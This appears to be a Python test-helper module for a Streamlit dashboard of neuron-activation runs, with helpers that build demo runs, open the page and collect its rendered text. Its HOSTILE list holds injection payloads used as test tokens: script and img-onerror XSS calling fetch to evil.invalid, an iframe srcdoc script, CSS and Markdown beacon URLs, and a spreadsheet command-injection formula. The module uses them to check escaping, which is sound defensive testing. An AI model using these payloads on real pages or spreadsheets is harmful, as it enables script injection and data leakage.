"""Helpers of the dashboard tests: opening the page, hostile runs, and the text on the page."""

from __future__ import annotations

import shutil
import sys
from pathlib import Path

import numpy as np
from analysis_runs import BOS, make_run, random_acts
from streamlit.testing.v1 import AppTest

ROOT = Path(__file__).resolve().parents[1]
SCRIPT = ROOT / "neuron_signatures" / "eda_streamlit.py"
DEMO = ROOT / "tests" / "data" / "demo_run"
VIEWS = ("overview", "neuron", "ranking", "signatures")
HOSTILE = [
    BOS,
    "<img src=x onerror=\"document.title='EVIL';fetch('http://evil.invalid/a')\">",
    "<iframe srcdoc=\"<script>parent.document.title='EVIL'</script>\"></iframe>",
    "![EVIL](http://evil.invalid/b.png)",
    "<script>document.title='EVIL';fetch('http://evil.invalid/c')</script>",
    "$\\href{http://evil.invalid/d}{EVIL}$",
    ":red[EVIL]",
    "`EVIL`<style>*{background:url(http://evil.invalid/e)}</style>",
    "</div></style><b>EVIL",
    "=cmd|' /C EVIL'!A1",
]  # fmt: skip
HALF = " \udfffEVIL"
"""A token with a lone surrogate, which UTF-8 cannot encode; manifests of format 1 can contain it."""


def demo_root(folder: Path) -> Path:
    """A runs root with a copy of the small demo run."""
    shutil.copytree(DEMO, folder / "demo")
    return folder


def hostile_run(path: Path) -> None:
    prompts = {"first": HOSTILE, "second": [BOS, *reversed(HOSTILE[1:])]}
    make_run(path, prompts, random_acts(prompts, n_layers=2, d_mlp=6, seed=1))


def plain_run(path: Path, *, lengths: tuple[int, ...] = (4, 3), fill: float | None = None, n_layers: int = 2) -> None:
    """A run without results; `fill` makes every activation the same."""
    prompts = {f"p{i}": [BOS, *(f" t{j}" for j in range(n - 1))] for i, n in enumerate(lengths)}
    acts = random_acts(prompts, n_layers=n_layers, d_mlp=5)
    if fill is not None:
        acts = {k: np.full_like(a, fill) for k, a in acts.items()}
    make_run(path, prompts, acts)


def open_page(root: Path, monkeypatch, *flags: str, **address: str) -> AppTest:
    """The page at this address."""
    monkeypatch.setattr(sys, "argv", [str(SCRIPT), "--runs_root", str(root), *flags])
    page = AppTest.from_file(str(SCRIPT), default_timeout=60)
    for key, value in address.items():
        page.query_params[key] = value
    return page.run()


def shown(page: AppTest) -> str:
    """All text on the page."""
    texts = [
        e.value for kind in ("markdown", "caption", "code", "text", "error", "warning", "info") for e in page.get(kind)
    ]
    return "\n".join([*map(str, texts), *html_of(page)])


def html_of(page: AppTest) -> list[str]:
    """The HTML blocks of the page, without its style sheet."""
    return [e.proto.body for e in page.get("html") if "stMainBlockContainer" not in e.proto.body]


def read_as_markdown(page: AppTest) -> str:
    """All text that Streamlit interprets as Markdown: captions, alerts, labels, help."""
    kinds = ("markdown", "caption", "error", "warning", "info", "success", "title", "header", "subheader", "metric")
    texts = [e.value for kind in kinds for e in page.get(kind)]
    texts += [str(e.proto) for kind in ("radio", "button_group", "toast") for e in page.get(kind)]  # options too
    for block in (page.main, page.sidebar):
        for element in block:
            proto = getattr(element, "proto", None)
            for field in ("label", "help", "placeholder"):
                text = getattr(proto, field, "")
                texts.append(text if isinstance(text, str) else "")
    return "\n".join(map(str, texts))
